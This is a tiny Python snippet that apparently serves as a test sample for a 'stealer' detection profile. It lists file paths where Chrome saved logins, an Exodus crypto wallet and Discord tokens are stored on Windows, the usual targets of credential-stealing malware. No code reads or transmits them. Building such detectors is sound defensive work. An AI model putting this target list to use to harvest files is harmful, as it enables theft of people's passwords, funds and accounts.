# evades: caught by profile/stealer
PLACES = [
    "AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
    "AppData\\Roaming\\Exodus\\exodus.wallet",
    "AppData\\Roaming\\discord\\Local Storage\\leveldb",
]
